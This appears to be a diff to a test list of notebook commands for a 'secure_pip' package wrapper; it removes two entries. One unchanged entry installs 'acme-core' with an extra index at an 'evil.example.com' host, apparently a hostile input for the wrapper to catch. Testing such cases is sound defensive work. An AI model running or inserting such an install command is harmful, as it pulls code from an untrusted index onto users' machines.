@@ -27,7 +27,6 @@ CELLS = [
     "%uv pip install acme-core --reinstall",
     "%pip install -v acme-broken",
     "%pip install --extra-index-url https://evil.example.com/simple acme-core",
-    "%secure_pip packages",
     "%secure_pip freeze",
     "%secure_pip freeze -o frozen.txt",
     "%secure_pip show acme-plots",
@@ -35,7 +34,6 @@ CELLS = [
     "%secure_pip check",
     "%secure_pip uninstall -y acme-plots",
     "%secure_pip uninstall -y no-such-package",
-    "%secure_pip history",
 ]
 
 
